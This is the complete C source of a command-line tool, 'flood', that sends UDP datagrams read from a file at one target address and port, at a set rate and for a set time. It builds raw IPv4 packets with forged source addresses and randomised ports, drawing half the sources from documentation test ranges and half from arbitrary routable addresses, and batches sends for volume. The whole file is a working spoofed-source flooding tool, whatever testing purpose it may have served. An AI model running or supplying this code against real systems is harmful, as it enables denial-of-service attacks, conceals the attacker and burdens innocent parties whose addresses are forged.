/* Sends forged datagrams at one node, from addresses that are not its own:
 *
 *	flood ADDRESS PORT RATE SECONDS FILE
 *
 * FILE holds the datagrams: two octets of length (big-endian), then so many octets, and so on. They
 * are sent in turn, RATE a second. Sources are drawn, by halves, from the documentation's three
 * networks and from everywhere. */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define FORMS_MAX 4096
#define DATAGRAM_MAX 1400
#define BATCH_MAX 64
#define OUR_PORT 7667
#define ANYWHERE 0x08000000 /* 8.0.0.0 and the next quarter of all addresses */

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t data[DATAGRAM_MAX];
} __attribute__((packed));

static struct {
	size_t len;
	uint8_t data[DATAGRAM_MAX];
} forms[FORMS_MAX];

static size_t read_forms(const char *path)
{
	FILE *file = fopen(path, "rb");
	uint8_t head[2];
	size_t count = 0;

	while (file && count < FORMS_MAX && fread(head, 1, 2, file) == 2) {
		forms[count].len = (size_t)head[0] << 8 | head[1];
		if (forms[count].len > DATAGRAM_MAX ||
		    fread(forms[count].data, 1, forms[count].len, file) != forms[count].len)
			return 0;
		count++;
	}
	if (file)
		fclose(file);
	return count;
}

static uint32_t draw(void)
{
	static uint32_t state = 2463534242;

	state ^= state << 13;
	state ^= state >> 17;
	state ^= state << 5;
	return state;
}

static size_t forge(struct packet *p, const struct sockaddr_in *to, size_t form)
{
	static const uint32_t nets[] = {0xc0000200, 0xc6336400, 0xcb007100};
	size_t len = sizeof(p->ip) + sizeof(p->udp) + forms[form].len;
	uint32_t word = draw();

	memset(p, 0, sizeof(p->ip) + sizeof(p->udp));
	p->ip.version = 4;
	p->ip.ihl = 5;
	p->ip.ttl = 64;
	p->ip.protocol = IPPROTO_UDP;
	p->ip.saddr = htonl((word & 0x20000) ? nets[word % 3] | (word >> 8 & 0xff)
	                                     : ANYWHERE | (draw() & 0x3fffffff));
	p->ip.daddr = to->sin_addr.s_addr;
	p->ip.tot_len = htons((uint16_t)len);
	p->udp.source = htons((word & 0x10000) ? OUR_PORT : (uint16_t)(1024 + (word >> 17)));
	p->udp.dest = to->sin_port;
	p->udp.len = htons((uint16_t)(len - sizeof(p->ip)));
	memcpy(p->data, forms[form].data, forms[form].len);
	return len;
}

/* Those that are due since the last call, at most BATCH_MAX. */
static size_t send_batch(int fd, struct sockaddr_in *to, size_t sent, size_t due, size_t count)
{
	static struct packet packets[BATCH_MAX];
	struct mmsghdr messages[BATCH_MAX] = {0};
	struct iovec pieces[BATCH_MAX];
	size_t n = due - sent < BATCH_MAX ? due - sent : BATCH_MAX;
	int done;

	for (size_t i = 0; i < n; i++) {
		size_t len = forge(&packets[i], to, (sent + i) % count);

		pieces[i] = (struct iovec){&packets[i], len};
		messages[i].msg_hdr = (struct msghdr){.msg_name = to,
		                                      .msg_namelen = sizeof(*to),
		                                      .msg_iov = &pieces[i],
		                                      .msg_iovlen = 1};
	}
	done = sendmmsg(fd, messages, (unsigned)n, 0);
	return done > 0 ? (size_t)done : 0;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	const struct timespec nap = {.tv_nsec = 1000000};
	struct sockaddr_in to = {.sin_family = AF_INET};
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	double began = now(), rate, length;
	size_t sent = 0, count;

	if (argc != 6 || fd < 0 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	to.sin_port = htons((uint16_t)atoi(argv[2]));
	rate = atof(argv[3]);
	length = atof(argv[4]);
	count = read_forms(argv[5]);
	if (count == 0)
		return 2;
	while ((double)sent < rate * length) {
		double passed = now() - began;
		size_t due = (size_t)(rate * (passed < length ? passed : length));

		if (due <= sent)
			nanosleep(&nap, NULL);
		else
			sent += send_batch(fd, &to, sent, due, count);
	}
	printf("%zu in %.2f s\n", sent, now() - began);
	return 0;
}
